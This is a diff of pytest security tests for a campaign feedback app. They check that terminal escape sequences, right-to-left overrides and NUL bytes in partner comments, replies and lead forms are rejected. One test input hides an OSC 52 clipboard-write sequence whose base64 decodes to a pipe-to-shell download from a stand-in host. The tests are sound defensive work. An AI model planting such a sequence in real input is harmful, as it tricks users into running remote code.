@@ -5,6 +5,12 @@ naming the field instead of a 500, and no inbox flooded by one person's clicks."
 
 from __future__ import annotations
 
+from collections.abc import Iterator
+
+import pytest
+from sqlalchemy import select
+
+from tests.conftest import _pg_database
 from tests.security.conftest import (
     PARTNER_A,
     PARTNER_B,
@@ -105,3 +111,84 @@ def test_a_reason_the_vendor_answered_stays_beside_its_reply(world):
     comments = _feedback(world, world.campaign)["comments"]
     assert [(c["comment"], c["reply"]) for c in comments] == [("second", None), ("first", "Noted")]
     assert _feedback(world, world.campaign)["reasons"] == {"other": 1}
+
+
+def test_control_characters_in_what_partners_write_are_a_422_naming_the_field(world):
+    """A comment is printed by `campaigns feedback` to the vendor's terminal: an escape
+    sequence in it (here OSC 52, which writes the clipboard) reached it as typed."""
+    world.app.config["WTF_CSRF_ENABLED"] = False
+    a = partner_client(world, PARTNER_A)
+    sneaky = "Fine\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+    rated = a.post(
+        f"/api/v1/me/campaigns/{world.campaign}/assets/email/rating",
+        json={"useful": False, "comment": sneaky},
+    )
+    assert rated.status_code == 422 and "comment" in rated.get_json()["detail"]
+    reversed_ = a.post(
+        f"/api/v1/me/campaigns/{world.campaign}/assets/email/rating",
+        json={"useful": False, "comment": "ok \u202egnirts"},
+    )
+    assert reversed_.status_code == 422
+    # a textarea's line breaks and a pasted tab are plain text, as before
+    fine = a.post(
+        f"/api/v1/me/campaigns/{world.campaign}/assets/email/rating",
+        json={"useful": False, "comment": "Two lines\r\nand\ta tab"},
+    )
+    assert fine.status_code == 200 and fine.get_json()["comment"] == "Two lines\nand a tab"
+
+
+@pytest.fixture
+def pg_url(postgres_server: str) -> Iterator[str]:
+    yield from _pg_database(postgres_server)
+
+
+class TestOnPostgres:
+    """The security world on PostgreSQL, which refuses NUL in text and in queries."""
+
+    @pytest.fixture
+    def sqlite_url(self, pg_url: str) -> str:
+        return pg_url
+
+    def test_a_nul_anywhere_in_feedback_is_a_4xx_not_a_500(self, world):
+        """Each of these was a 500 (psycopg: "PostgreSQL text fields cannot contain NUL")."""
+        world.app.config["WTF_CSRF_ENABLED"] = False
+        world.app.config["PROPAGATE_EXCEPTIONS"] = False
+        a = partner_client(world, PARTNER_A)
+        c = world.campaign
+        rating = f"/api/v1/me/campaigns/{c}/assets/email/rating"
+        assert a.post(rating, json={"useful": False, "comment": "a\x00b"}).status_code == 422
+        form = {"campaign_id": c, "useful": "no", "asset": "email", "comment": "a\x00b"}
+        assert a.post("/portal/ratings", data=form).status_code == 422
+        off = {"mode": "off", "campaign_id": c, "reason": "other", "comment": "a\x00b"}
+        assert a.put("/api/v1/me/consent", json=off).status_code == 422
+        assert a.put("/api/v1/me/consent", json={**off, "comment": "fine"}).status_code == 200
+        reason = {"kind": "opt_out", "campaign_id": c, "reason": "other", "comment": "a\x00b"}
+        assert a.post("/portal/feedback/reason", data=reason).status_code == 422
+        skip = {**reason, "kind": "skip", "channel": "social", "asset": "a\x00", "comment": ""}
+        assert a.post("/portal/feedback/reason", data=skip).status_code == 404
+        stranger = world.app.test_client()
+        notice = f"/portal/feedback/notice/{world.notice['A']}"
+        given = stranger.post(notice, data={"reason": "other", "comment": "a\x00b"})
+        assert given.status_code == 422
+        rated = a.post(rating, json={"useful": False, "comment": "ok"}).get_json()["id"]
+        marketer = vendor_client(world)
+        replied = marketer.post(f"/api/v1/feedback/{rated}/reply", json={"reply": "a\x00b"})
+        assert replied.status_code == 422 and "reply" in replied.get_json()["detail"]
+        console = marketer.post(f"/campaigns/{c}/feedback/{rated}/reply", data={"reply": "a\x00"})
+        assert console.status_code == 422
+        assert marketer.get("/kits/x%00/feedback").status_code == 404
+        assert marketer.get("/api/v1/kits/x%00/feedback").status_code == 404
+        # the landing page's visitor
+        with world.runtime.sessions() as session:
+            from campaign_engine.db import TrackedLink
+
+            token = session.scalar(
+                select(TrackedLink.token)
+                .where(TrackedLink.campaign_id == c, TrackedLink.name == "assessment")
+                .limit(1)
+            )
+        assert stranger.get(f"/l/{token}").status_code == 200
+        for field in ("name", "email", "company", "message"):
+            lead = {"email": "v@c.example", "name": "V", "consent": "on", field: "a\x00b"}
+            answer = stranger.post(f"/l/{token}", data=lead)
+            assert answer.status_code == 422, field
